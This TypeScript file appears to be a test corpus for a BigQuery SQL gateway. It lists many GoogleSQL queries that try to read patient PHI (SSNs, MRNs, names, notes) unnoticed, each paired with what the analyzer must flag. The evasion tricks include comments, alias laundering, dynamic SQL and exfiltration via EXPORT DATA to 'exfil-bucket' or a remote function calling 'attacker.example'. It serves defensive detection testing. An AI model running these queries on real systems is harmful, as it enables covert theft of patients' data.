// SQL variants that try to read PHI unnoticed, each with what the text analysis must report about it.

import { formatTableRef } from './facts.ts';
import type { InformationSchemaScope, SqlAnalysis, SqlAnalysisOptions, SqlFlags } from './sql-analysis.ts';

/** Flags that are true or false. */
export type BooleanFlag = {
  [K in keyof SqlFlags]: SqlFlags[K] extends boolean ? K : never;
}[keyof SqlFlags];

/** What an analysis must report; list fields must each be included (the analysis may report more). */
export interface BypassExpectation {
  parsed?: boolean;
  statementCount?: number;
  selectStar?: boolean;
  /** `project.dataset.table`. */
  tables?: string[];
  /** `project.dataset.table.column`, `project.dataset.table.*`, or `?.column` when no table is told. */
  columns?: string[];
  flags?: Partial<Record<BooleanFlag, boolean>>;
  informationSchema?: InformationSchemaScope[];
  /** `project.dataset.prefix*`. */
  wildcardTables?: string[];
  crossProjects?: string[];
}

/** One attempt: a name that says the trick, plausible GoogleSQL, and what must be caught. */
export interface BypassCase {
  name: string;
  sql: string;
  expect: BypassExpectation;
}

/** The defaults the corpus is written for: the gateway's, a default project and no default dataset. */
export const BYPASS_DEFAULTS: SqlAnalysisOptions = { defaultProject: 'demo-warden' };

const P = 'demo-warden.clinical.patients';
const N = 'demo-warden.clinical.clinical_notes';
const ICD = 'demo-warden.reference.icd10_codes';
const col = (table: string, ...names: string[]) => names.map((n) => `${table}.${n}`);

/** SQL that tries to read `demo-warden.clinical.patients` / `clinical_notes` PHI without being noticed. */
export const BYPASS_CORPUS: BypassCase[] = [
  // --- names: quoting, casing, defaults
  {
    name: 'fully qualified in one backtick pair',
    sql: 'SELECT ssn FROM `demo-warden.clinical.patients`',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'only the dashed project quoted',
    sql: 'SELECT ssn, mrn FROM `demo-warden`.clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'mrn') },
  },
  {
    name: 'project and dataset quoted together',
    sql: 'SELECT first_name FROM `demo-warden.clinical`.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'first_name') },
  },
  {
    name: 'every part quoted separately',
    sql: 'SELECT `ssn` FROM `demo-warden`.`clinical`.`patients`',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'dataset.table resolved with the default project',
    sql: 'SELECT last_name FROM clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'last_name') },
  },
  {
    name: 'unquoted dashed project id',
    sql: 'SELECT birth_date FROM demo-warden.clinical.patients',
    expect: { tables: [P], columns: col(P, 'birth_date') },
  },
  {
    name: 'upper-case dataset name',
    sql: 'SELECT ssn FROM `demo-warden.CLINICAL.patients`',
    expect: {
      tables: ['demo-warden.CLINICAL.patients'],
      columns: col('demo-warden.CLINICAL.patients', 'ssn'),
    },
  },
  {
    name: 'upper-case project id is a project id',
    sql: 'SELECT ssn FROM `DEMO-WARDEN.clinical.patients`',
    expect: { tables: [P], columns: col(P, 'ssn'), crossProjects: [] },
  },
  {
    name: 'keyword and column casing',
    sql: 'sElEcT SsN, MRN fRoM clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'mrn') },
  },
  // --- comments, strings, whitespace
  {
    name: 'line comment hides a harmless FROM',
    sql: 'SELECT ssn -- FROM reference.icd10_codes\nFROM clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'hash comment and block comment between clauses',
    sql: 'SELECT /* only codes */ ssn # , code\nFROM /* reference.icd10_codes */ clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'comment markers inside a string',
    sql: "SELECT '-- nothing here /*' AS note, first_name FROM clinical.patients",
    expect: { parsed: true, tables: [P], columns: col(P, 'first_name'), statementCount: 1 },
  },
  {
    name: 'tabs and line breaks instead of spaces',
    sql: 'SELECT\tssn\r\n,\tmrn\nFROM\n\tclinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'mrn') },
  },
  {
    name: 'triple-quoted string with a semicolon',
    sql: 'SELECT """x; SELECT 1""" AS a, first_name FROM clinical.patients',
    expect: { tables: [P], statementCount: 1, flags: { multiStatement: false } },
  },
  // --- aliases, CTEs, subqueries
  {
    name: 'table alias and a harmless column alias',
    sql: 'SELECT p.ssn AS account_ref FROM clinical.patients AS p',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'aliases without AS',
    sql: 'SELECT x.mrn id FROM clinical.patients x',
    expect: { parsed: true, tables: [P], columns: col(P, 'mrn') },
  },
  {
    name: 'CTE renames the column',
    sql: 'WITH ref AS (SELECT ssn AS code FROM clinical.patients) SELECT code FROM ref',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'CTE passes * through and the outer query picks a column',
    sql: 'WITH p AS (SELECT * FROM clinical.patients) SELECT p.ssn FROM p',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', '*'), selectStar: true },
  },
  {
    name: 'CTE chain',
    sql: 'WITH a AS (SELECT * FROM clinical.patients), b AS (SELECT a.last_name AS n FROM a) SELECT n FROM b',
    expect: { parsed: true, tables: [P], columns: col(P, 'last_name') },
  },
  {
    name: 'nested subqueries rename twice',
    sql: 'SELECT v FROM (SELECT w AS v FROM (SELECT birth_date AS w FROM clinical.patients))',
    expect: { parsed: true, tables: [P], columns: col(P, 'birth_date') },
  },
  {
    name: 'comma join with a reference table',
    sql: "SELECT p.ssn FROM reference.icd10_codes c, clinical.patients p WHERE c.code = 'A00'",
    expect: { parsed: true, tables: [P, ICD], columns: col(P, 'ssn') },
  },
  {
    name: 'JOIN USING',
    sql: 'SELECT p.mrn FROM clinical.patients p JOIN clinical.encounters e USING (patient_id)',
    expect: { parsed: true, tables: [P], columns: col(P, 'mrn', 'patient_id') },
  },
  // --- set operations and value tricks
  {
    name: 'UNION ALL behind the reference table',
    sql: 'SELECT code, description FROM reference.icd10_codes UNION ALL SELECT ssn, last_name FROM clinical.patients',
    expect: { parsed: true, tables: [ICD, P], columns: col(P, 'ssn', 'last_name') },
  },
  {
    name: 'UNION DISTINCT inside a subquery',
    sql: 'SELECT code FROM (SELECT code FROM `demo-warden.reference.icd10_codes` UNION DISTINCT SELECT mrn FROM `demo-warden.clinical.patients`)',
    expect: { parsed: true, tables: [ICD, P], columns: col(P, 'mrn') },
  },
  {
    name: 'ARRAY of SELECT AS STRUCT',
    sql: 'SELECT ARRAY(SELECT AS STRUCT ssn, mrn FROM clinical.patients) AS s',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'mrn') },
  },
  {
    name: 'whole row through TO_JSON_STRING',
    sql: 'SELECT TO_JSON_STRING(p) FROM clinical.patients AS p',
    expect: { parsed: true, tables: [P], columns: col(P, '*'), selectStar: true },
  },
  {
    name: 'whole row by the bare table name',
    sql: 'SELECT patients FROM clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, '*'), selectStar: true },
  },
  {
    name: 'whole rows aggregated into an array',
    sql: 'SELECT ARRAY_AGG(p) AS batch FROM clinical.patients p',
    expect: { parsed: true, tables: [P], columns: col(P, '*'), selectStar: true },
  },
  {
    name: 'ARRAY_AGG … ORDER BY … LIMIT, which the parser does not know',
    sql: 'SELECT ARRAY_AGG(p ORDER BY p.mrn LIMIT 10) AS batch FROM clinical.patients p',
    expect: { parsed: false, tables: [P] },
  },
  {
    name: 'ssn renamed to an allowed column name by a UNION in a subquery',
    sql: 'SELECT first_name FROM (SELECT first_name FROM clinical.patients UNION ALL SELECT ssn FROM clinical.patients)',
    expect: { parsed: true, tables: [P], columns: col(P, 'first_name', 'ssn') },
  },
  {
    name: 'unnamed subquery column read by its generated name',
    sql: 'SELECT f0_ FROM (SELECT UPPER(ssn) FROM clinical.patients)',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'alias path in one pair of backticks',
    sql: 'SELECT `p.ssn` FROM clinical.patients p',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'CTE reused in a later UNION branch',
    sql: 'WITH a AS (SELECT ssn FROM clinical.patients) SELECT code FROM reference.icd10_codes UNION ALL SELECT ssn FROM a',
    expect: { parsed: true, tables: [P, ICD], columns: col(P, 'ssn') },
  },
  {
    name: 'STRUCT of the name columns',
    sql: 'SELECT STRUCT(p.first_name, p.last_name) AS who FROM clinical.patients p',
    expect: { parsed: true, tables: [P], columns: col(P, 'first_name', 'last_name') },
  },
  {
    name: 'correlated ARRAY subquery next to reference codes',
    sql: 'SELECT c.code, ARRAY(SELECT p.ssn FROM clinical.patients p WHERE p.mrn IS NOT NULL LIMIT 1) AS x FROM reference.icd10_codes c',
    expect: { parsed: true, tables: [P, ICD], columns: col(P, 'ssn', 'mrn') },
  },
  {
    name: 'EXISTS predicate as an oracle on ssn',
    sql: "SELECT code FROM reference.icd10_codes c WHERE EXISTS (SELECT 1 FROM clinical.patients p WHERE p.ssn LIKE CONCAT(c.code, '%'))",
    expect: { parsed: true, tables: [P, ICD], columns: col(P, 'ssn') },
  },
  {
    name: 'IN subquery on an ssn prefix',
    sql: 'SELECT code FROM reference.icd10_codes WHERE code IN (SELECT SUBSTR(ssn, 1, 3) FROM clinical.patients)',
    expect: { parsed: true, tables: [P, ICD], columns: col(P, 'ssn') },
  },
  {
    name: 'UNNEST of an aggregated array',
    sql: 'SELECT x FROM UNNEST((SELECT ARRAY_AGG(ssn) FROM clinical.patients)) AS x',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'UNNEST of a struct array, fields unqualified',
    sql: 'SELECT n FROM UNNEST(ARRAY(SELECT AS STRUCT first_name AS n FROM clinical.patients))',
    expect: { parsed: true, tables: [P], columns: col(P, 'first_name') },
  },
  {
    name: 'aggregate joins every last name',
    sql: "SELECT STRING_AGG(last_name, ',') AS names FROM clinical.patients",
    expect: { parsed: true, tables: [P], columns: col(P, 'last_name') },
  },
  {
    name: 'ORDER BY ssn as an ordering oracle',
    sql: 'SELECT patient_id FROM clinical.patients ORDER BY ssn',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'patient_id') },
  },
  {
    name: 'GROUP BY and WHERE only, nothing PHI in the SELECT list',
    sql: "SELECT COUNT(*) AS n FROM clinical.patients WHERE ssn LIKE '123-%' GROUP BY birth_date",
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'birth_date') },
  },
  {
    name: 'SELECT * EXCEPT still reads the other PHI columns',
    sql: 'SELECT * EXCEPT (ssn) FROM clinical.patients',
    expect: { parsed: true, tables: [P], columns: col(P, '*'), selectStar: true },
  },
  {
    name: 'time travel to rows already deleted',
    sql: 'SELECT ssn FROM clinical.patients FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)',
    expect: { tables: [P], columns: col(P, 'ssn') },
  },
  {
    name: 'QUALIFY on a window over mrn',
    sql: 'SELECT ssn FROM clinical.patients WHERE TRUE QUALIFY ROW_NUMBER() OVER (ORDER BY mrn) = 1',
    expect: { parsed: true, tables: [P], columns: col(P, 'ssn', 'mrn') },
  },
  {
    name: 'WITH RECURSIVE, which the parser does not know',
    sql: 'WITH RECURSIVE r AS (SELECT ssn AS s, 1 AS n FROM clinical.patients UNION ALL SELECT s, n + 1 FROM r WHERE n < 2) SELECT s FROM r',
    expect: { parsed: false, tables: [P] },
  },
  {
    name: 'free-text notes',
    sql: 'SELECT note_text FROM clinical.clinical_notes',
    expect: { parsed: true, tables: [N], columns: col(N, 'note_text') },
  },
  {
    name: 'notes as JSON rows',
    sql: 'SELECT TO_JSON_STRING(n) FROM `demo-warden.clinical.clinical_notes` n',
    expect: { parsed: true, tables: [N], columns: col(N, '*'), selectStar: true },
  },
  {
    name: 'table-valued function over the table',
    sql: 'SELECT ssn FROM APPENDS(TABLE clinical.patients, NULL, NULL)',
    expect: { tables: [P] },
  },
  // --- wildcard tables and INFORMATION_SCHEMA
  {
    name: 'wildcard table on a prefix',
    sql: 'SELECT ssn FROM `demo-warden.clinical.pat*`',
    expect: { tables: ['demo-warden.clinical.pat*'], wildcardTables: ['demo-warden.clinical.pat*'] },
  },
  {
    name: 'whole-dataset wildcard narrowed by _TABLE_SUFFIX',
    sql: "SELECT ssn FROM `demo-warden.clinical.*` WHERE _TABLE_SUFFIX = 'patients'",
    expect: { wildcardTables: ['demo-warden.clinical.*'] },
  },
  {
    name: 'dataset INFORMATION_SCHEMA.COLUMNS',
    sql: "SELECT column_name FROM `demo-warden.clinical.INFORMATION_SCHEMA.COLUMNS` WHERE table_name = 'patients'",
    expect: { informationSchema: [{ projectId: 'demo-warden', datasetId: 'clinical' }] },
  },
  {
    name: 'region INFORMATION_SCHEMA.TABLES',
    sql: 'SELECT table_name FROM `region-us`.INFORMATION_SCHEMA.TABLES',
    expect: { informationSchema: [{ projectId: 'demo-warden', region: 'us' }] },
  },
  {
    name: 'unquoted region qualifier, mixed case view name',
    sql: 'SELECT * FROM region-us.information_schema.Columns',
    expect: { informationSchema: [{ projectId: 'demo-warden', region: 'us' }] },
  },
  // --- scripting and dynamic SQL
  {
    name: 'DECLARE then read',
    sql: 'DECLARE n INT64 DEFAULT 3; SELECT ssn FROM clinical.patients WHERE LENGTH(mrn) > n',
    expect: { tables: [P], statementCount: 2, flags: { scripting: true, multiStatement: true } },
  },
  {
    name: 'BEGIN … END block',
    sql: 'BEGIN SELECT first_name FROM clinical.patients; END',
    expect: { tables: [P], flags: { scripting: true } },
  },
  {
    name: 'SET a variable from a subquery',
    sql: 'DECLARE s STRING; SET s = (SELECT ssn FROM clinical.patients LIMIT 1); SELECT s AS code',
    expect: { tables: [P], flags: { scripting: true, multiStatement: true } },
  },
  {
    name: 'labelled LOOP',
    sql: 'outer_loop: LOOP SELECT mrn FROM clinical.patients; LEAVE outer_loop; END LOOP outer_loop',
    expect: { tables: [P], flags: { scripting: true } },
  },
  {
    name: 'EXECUTE IMMEDIATE of a literal',
    sql: "EXECUTE IMMEDIATE 'SELECT ssn FROM clinical.patients'",
    expect: { tables: [P], columns: col(P, 'ssn'), flags: { executeImmediate: true } },
  },
  {
    name: 'EXECUTE IMMEDIATE of a concatenation',
    sql: "EXECUTE IMMEDIATE 'SELECT s' || 'sn FROM clin' || 'ical.patients'",
    expect: { tables: [P], flags: { executeImmediate: true } },
  },
  {
    name: 'EXECUTE IMMEDIATE of a variable built with CONCAT',
    sql: "DECLARE q STRING DEFAULT CONCAT('SELECT mrn ', 'FROM clinical.patients'); EXECUTE IMMEDIATE q",
    expect: { tables: [P], flags: { executeImmediate: true, scripting: true } },
  },
  {
    name: 'EXECUTE and IMMEDIATE split by a comment, odd casing',
    sql: 'eXeCuTe/* x */iMmEdIaTe "SELECT ssn FROM clinical.patients"',
    expect: { tables: [P], flags: { executeImmediate: true } },
  },
  {
    name: 'EXECUTE IMMEDIATE FORMAT with USING',
    sql: "EXECUTE IMMEDIATE FORMAT('SELECT %s FROM clinical.patients WHERE mrn = ?', 'ssn') USING 'M0001'",
    expect: { tables: [P], flags: { executeImmediate: true } },
  },
  // --- exfiltration and other projects
  {
    name: 'EXPORT DATA to a bucket',
    sql: "EXPORT DATA OPTIONS (uri = 'gs://exfil-bucket/p-*.csv', format = 'CSV', overwrite = true) AS SELECT ssn, first_name FROM clinical.patients",
    expect: { tables: [P], columns: col(P, 'ssn', 'first_name'), flags: { exportData: true } },
  },
  {
    name: 'EXTERNAL_QUERY to a federated database',
    sql: "SELECT * FROM EXTERNAL_QUERY('demo-warden.us.clinical-pg', 'SELECT ssn FROM patients')",
    expect: { flags: { externalQuery: true } },
  },
  {
    name: 'same table in another project',
    sql: 'SELECT ssn FROM `other-hospital.clinical.patients`',
    expect: { tables: ['other-hospital.clinical.patients'], crossProjects: ['other-hospital'] },
  },
  {
    name: 'join to a table in an attacker project',
    sql: 'SELECT p.ssn FROM clinical.patients p JOIN `attacker-proj.staging.lookup` l ON l.k = p.mrn',
    expect: { tables: [P, 'attacker-proj.staging.lookup'], crossProjects: ['attacker-proj'] },
  },
  {
    name: 'routine in another project',
    sql: 'SELECT `attacker-proj.udfs.send`(ssn) AS ok FROM clinical.patients',
    expect: { tables: [P], columns: col(P, 'ssn'), crossProjects: ['attacker-proj'] },
  },
  // --- functions and procedures
  {
    name: 'CREATE TEMP FUNCTION wraps the column',
    sql: 'CREATE TEMP FUNCTION mask(x STRING) AS (x); SELECT mask(ssn) AS masked FROM clinical.patients',
    expect: { tables: [P], columns: col(P, 'ssn'), flags: { temporaryFunction: true, multiStatement: true } },
  },
  {
    name: 'JavaScript UDF',
    sql: 'CREATE TEMPORARY FUNCTION leak(x STRING) RETURNS STRING LANGUAGE js AS r"""return x;"""; SELECT leak(ssn) AS y FROM clinical.patients',
    expect: { tables: [P], flags: { temporaryFunction: true, remoteFunction: true } },
  },
  {
    name: 'remote function to an outside endpoint',
    sql: "CREATE FUNCTION `demo-warden.staging.exfil`(x STRING) RETURNS STRING REMOTE WITH CONNECTION `demo-warden.us.ext` OPTIONS (endpoint = 'https://attacker.example/leak')",
    expect: { flags: { remoteFunction: true, ddl: true } },
  },
  {
    name: 'CALL a stored procedure',
    sql: 'CALL `demo-warden.staging.dump_patients`()',
    expect: { flags: { scripting: true } },
  },
  // --- several statements, DDL and DML
  {
    name: 'harmless statement first',
    sql: 'SELECT code FROM reference.icd10_codes LIMIT 1; SELECT ssn FROM clinical.patients',
    expect: { tables: [ICD, P], columns: col(P, 'ssn'), statementCount: 2, flags: { multiStatement: true } },
  },
  {
    name: 'semicolon in a string before the second statement',
    sql: "SELECT ';' AS x; SELECT mrn FROM clinical.patients",
    expect: { tables: [P], statementCount: 2, flags: { multiStatement: true } },
  },
  {
    name: 'view over the PHI table is still named',
    sql: 'SELECT * FROM reporting.patient_summary_v',
    expect: { tables: ['demo-warden.reporting.patient_summary_v'], selectStar: true },
  },
  {
    name: 'CREATE VIEW to launder the table name',
    sql: 'CREATE VIEW reference.innocent_v AS SELECT ssn FROM clinical.patients',
    expect: { tables: [P, 'demo-warden.reference.innocent_v'], flags: { ddl: true } },
  },
  {
    name: 'CREATE TABLE AS SELECT copies the table',
    sql: 'CREATE TABLE reference.copy_of_codes AS SELECT * FROM clinical.patients',
    expect: { tables: [P], flags: { ddl: true } },
  },
  {
    name: 'INSERT … SELECT into the reference table',
    sql: 'INSERT INTO reference.icd10_codes (code, description) SELECT ssn, last_name FROM clinical.patients',
    expect: { tables: [P, ICD], columns: col(P, 'ssn', 'last_name'), flags: { dml: true } },
  },
  {
    name: 'MERGE reads the table as its source',
    sql: 'MERGE reference.icd10_codes T USING clinical.patients S ON T.code = S.mrn WHEN NOT MATCHED THEN INSERT (code, description) VALUES (S.mrn, S.ssn)',
    expect: { tables: [P, ICD], flags: { dml: true } },
  },
];

/** What `a` fails to report of `e`, as readable lines (empty when every expectation is met). */
export function unmetExpectations(a: SqlAnalysis, e: BypassExpectation): string[] {
  const out: string[] = [];
  const missing = (what: string, want: string[] | undefined, have: string[]) => {
    for (const w of want ?? [])
      if (!have.includes(w)) out.push(`${what} lacks ${w} (has ${have.join(', ')})`);
  };
  if (e.parsed !== undefined && a.parsed !== e.parsed) out.push(`parsed is ${a.parsed}`);
  if (e.statementCount !== undefined && a.statementCount !== e.statementCount)
    out.push(`statementCount is ${a.statementCount}`);
  if (e.selectStar !== undefined && a.selectStar !== e.selectStar) out.push(`selectStar is ${a.selectStar}`);
  missing('tables', e.tables, a.tables.map(formatTableRef));
  missing(
    'columns',
    e.columns,
    a.columns.map((c) => `${c.table ? formatTableRef(c.table) : '?'}.${c.column}`),
  );
  for (const [k, v] of Object.entries(e.flags ?? {})) {
    if (a.flags[k as BooleanFlag] !== v) out.push(`flags.${k} is ${a.flags[k as BooleanFlag]}`);
  }
  missing('informationSchema', e.informationSchema?.map(scopeKey), a.flags.informationSchema.map(scopeKey));
  missing('wildcardTables', e.wildcardTables, a.flags.wildcardTables.map(formatTableRef));
  if (e.crossProjects !== undefined && e.crossProjects.length === 0 && a.flags.crossProjects.length > 0)
    out.push(`crossProjects is ${a.flags.crossProjects.join(', ')}`);
  missing('crossProjects', e.crossProjects, a.flags.crossProjects);
  return out;
}

function scopeKey(s: InformationSchemaScope): string {
  return `project=${s.projectId ?? ''} dataset=${s.datasetId ?? ''} region=${s.region ?? ''}`;
}
